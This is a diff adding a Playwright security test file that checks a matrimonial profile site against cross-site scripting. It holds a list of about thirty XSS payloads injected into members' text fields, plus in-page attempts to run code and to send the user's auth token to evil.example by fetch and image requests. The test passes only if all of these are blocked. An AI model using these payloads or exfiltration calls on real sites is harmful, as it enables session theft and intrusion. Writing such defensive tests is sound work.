@@ -1,0 +1,248 @@
+import type { Page } from "@playwright/test";
+import { expect, test } from "./stage.ts";
+
+const alarm = "window.PWN=1";
+/** What is tried wherever a page shows what somebody else wrote. */
+const payloads = [
+  `<script>${alarm}</script>`,
+  `"><script>${alarm}</script>`,
+  `'><script>${alarm}</script>`,
+  `</title><script>${alarm}</script>`,
+  `</textarea><script>${alarm}</script>`,
+  `<img src=x onerror="${alarm}">`,
+  `<img src=x onerror=${alarm}//`,
+  `<image/src/onerror=${alarm}>`,
+  `<svg onload=${alarm}>`,
+  `<svg><script>${alarm}</script></svg>`,
+  `<svg><animate onbegin=${alarm} attributeName=x>`,
+  `<body onload=${alarm}>`,
+  `<iframe srcdoc="<script>parent.PWN=1</script>"></iframe>`,
+  `<iframe src="data:text/html,<script>parent.PWN=1</script>"></iframe>`,
+  `<object data="data:text/html,x"></object>`,
+  `<embed src="data:text/html,x">`,
+  `<details open ontoggle=${alarm}>`,
+  `<input autofocus onfocus=${alarm}>`,
+  `<video><source onerror=${alarm}></video>`,
+  `<math><mtext><img src=x onerror=${alarm}></mtext></math>`,
+  `<a href="javascript:${alarm}">x</a>`,
+  `" onfocus="${alarm}" autofocus="`,
+  `' onmouseover='${alarm}`,
+  `{{constructor.constructor('${alarm}')()}}`,
+  `\${${alarm}}`,
+  `<style>@import 'data:text/css,*{color:red}';</style>`,
+  `<link rel=stylesheet href="data:text/css,x">`,
+  `<base href="https://evil.example/">`,
+  `<meta http-equiv=refresh content="0;url=data:text/html,x">`,
+  `<form action="https://evil.example"><button formaction="javascript:${alarm}">x</button></form>`,
+];
+
+/** Whatever a member can write in words of their own. */
+const written = new Set([
+  "firstname",
+  "lastname",
+  "express_yourself",
+  "about_family",
+  "about_desired_partner",
+  "disability_explain",
+  "father_name",
+  "mother_name",
+  "reference_name",
+  "reference_relation",
+  "paternal_gotra_other",
+  "maternal_gotra_other",
+  "contact_address",
+  "family_living_in",
+]);
+
+/** Puts all payloads into every such field of an answer. */
+function spoil(value: unknown): unknown {
+  if (Array.isArray(value)) return value.map(spoil);
+  if (typeof value !== "object" || value === null) return value;
+  return Object.fromEntries(
+    Object.entries(value).map(([name, inner]) => [
+      name,
+      written.has(name) && typeof inner !== "object" ? payloads.join(" ") : spoil(inner),
+    ]),
+  );
+}
+
+const injected = [
+  "main script",
+  "iframe",
+  "object",
+  "embed",
+  "base",
+  "math",
+  "details[ontoggle]",
+  "[onerror]",
+  "[onload]",
+  "[onfocus]",
+  "[onmouseover]",
+  'a[href^="javascript"]',
+  'form[action*="evil"]',
+].join();
+
+async function openAll(page: Page, addresses: readonly string[]): Promise<number> {
+  let shown = 0;
+  for (const address of addresses) {
+    await page.goto(address);
+    await expect(page.locator("h1").first()).toBeVisible();
+    await page.waitForLoadState("networkidle");
+    const found = await page.evaluate((selector) => {
+      const field = [...document.querySelectorAll("input,textarea")].map(
+        (one) => (one as HTMLInputElement).value,
+      );
+      return {
+        alarmed: "PWN" in window,
+        injected: [...document.querySelectorAll(selector)].map((one) => one.outerHTML.slice(0, 80)),
+        shown: (document.body.innerText + field.join()).includes("<script>"),
+      };
+    }, injected);
+    expect({ address, ...found }).toEqual({ address, alarmed: false, injected: [], shown: found.shown });
+    shown += Number(found.shown);
+  }
+  return shown;
+}
+
+test("X1, L7: what members write stays text on every screen, and no page asks anybody else for anything", async ({
+  enter,
+  tokenOf,
+  baseURL,
+}) => {
+  const page = await enter({ token: await tokenOf("asha") });
+  const dialogs: string[] = [];
+  page.on("dialog", (dialog) => {
+    dialogs.push(dialog.message());
+    void dialog.dismiss();
+  });
+  const strangers: string[] = [];
+  const tellers: string[] = [];
+  page.on("request", (request) => {
+    const { protocol, origin } = new URL(request.url());
+    if (!["blob:", "data:"].includes(protocol) && origin !== baseURL) strangers.push(request.url());
+    if (request.headers().referer) tellers.push(request.url());
+  });
+  let other = "";
+  await page.route("**/backend/api/**", async (route) => {
+    // A stream that stays open would never let a page come to rest.
+    if (route.request().url().endsWith("/live"))
+      return route.fulfill({ status: 429, json: { message: "later" } });
+    const answer = await route.fetch();
+    if (!answer.headers()["content-type"]?.includes("json")) return route.fulfill({ response: answer });
+    const told = await answer.json();
+    other ||= told?.data?.data?.find?.((row: { user_id?: string }) => row.user_id)?.user_id ?? "";
+    return route.fulfill({ response: answer, json: spoil(told) });
+  });
+  await openAll(page, ["/suggestion"]);
+  await expect.poll(() => other).not.toBe("");
+  const shown = await openAll(page, [
+    "/home",
+    `/view-profile/${other}`,
+    "/summary-details",
+    "/profile-registration-edit/personal",
+    "/profile-registration-edit/family",
+    "/profile-registration-edit/preference",
+    "/notifications",
+    "/biodata",
+    "/privacy-setting",
+    "/account",
+  ]);
+  // Most of them show what members wrote: else this would prove nothing.
+  expect(shown).toBeGreaterThanOrEqual(5);
+  expect({ dialogs, strangers, tellers }).toEqual({ dialogs: [], strangers: [], tellers: [] });
+  await page.unrouteAll({ behavior: "ignoreErrors" });
+});
+
+const pages = `/ /login /register /otp-verification /forgot-password /reset-password?token=bogus /report
+  /how-suggestions-work /terms-condition /privacy-policy /no/such/page /home /suggestion /summary-details /biodata
+  /privacy-setting /account /notifications /backend/api/docs`.split(/\s+/);
+
+type Tried = { done: string[]; alarmed: boolean };
+
+/** What a script would try that got in; run by the page itself, since what a debugger runs is let do more. */
+function tryAll(secret: string): Promise<Tried> {
+  const evil = `https://evil.example/?${secret}`;
+  const attempts: Record<string, () => unknown> = {
+    markup: () => {
+      document.body.innerHTML += "<img src=x onerror='window.PWN=1'>";
+    },
+    code: () => new Function("window.PWN=1")(),
+    script: () => {
+      const script = document.createElement("script");
+      script.textContent = "window.PWN=1";
+      document.body.append(script);
+      throw new Error("judged by the alarm");
+    },
+    link: () => {
+      const link = document.createElement("a");
+      link.setAttribute("href", ["java", "script:window.PWN=1"].join(""));
+      document.body.append(link);
+      link.click();
+      throw new Error("judged by the alarm");
+    },
+    fetch: () => fetch(evil, { mode: "no-cors" }),
+    image: () => {
+      const image = new Image();
+      image.src = evil;
+      return image.decode();
+    },
+  };
+  return new Promise((resolve) => {
+    setTimeout(async () => {
+      const done: string[] = [];
+      for (const [name, attempt] of Object.entries(attempts)) {
+        try {
+          await attempt();
+          done.push(name);
+        } catch {
+          // Kept from it.
+        }
+      }
+      resolve({ done, alarmed: "PWN" in window });
+    });
+  });
+}
+
+test("X3: on every page a script that got in could not run, and could send the token nowhere", async ({
+  browser,
+  baseURL,
+  tokenOf,
+}) => {
+  const token = await tokenOf("asha");
+  const localStorage = [{ name: "token", value: token }];
+  const context = await browser.newContext({
+    storageState: { cookies: [], origins: [{ origin: baseURL ?? "", localStorage }] },
+  });
+  const reports: number[] = [];
+  const escaped: string[] = [];
+  context.on("response", (answer) => {
+    if (answer.url().endsWith("/backend/csp-reports")) reports.push(answer.status());
+  });
+  context.on("requestfinished", (request) => {
+    if (new URL(request.url()).origin === "https://evil.example") escaped.push(request.url());
+  });
+  const rules =
+    `default-src 'none'; connect-src 'self'; base-uri 'none'; frame-ancestors 'none'; object-src 'none';
+    require-trusted-types-for 'script'; report-uri /backend/csp-reports`.split(/;\s+/);
+  for (const address of pages) {
+    const answer = await context.request.get(address);
+    const policy = answer.headers()["content-security-policy"] ?? "";
+    for (const rule of rules) expect(policy, `${address}: ${rule}`).toContain(rule);
+    expect(policy, address).not.toMatch(/unsafe-|\*|https?:/);
+    expect(answer.headers()["referrer-policy"]).toBe("no-referrer");
+  }
+  const page = await context.newPage();
+  // All pages of ours are one document; the others are the API's own.
+  for (const address of ["/", "/login", "/home", "/no/such/page", "/backend/api/docs"]) {
+    await page.goto(address, { waitUntil: "domcontentloaded" });
+    expect({ address, ...(await page.evaluate(tryAll, token)) }).toEqual({
+      address,
+      done: [],
+      alarmed: false,
+    });
+  }
+  await expect.poll(() => reports.length).toBeGreaterThan(0);
+  expect(reports.every((status) => status === 204)).toBe(true);
+  expect(escaped).toEqual([]);
+  await context.close();
+});
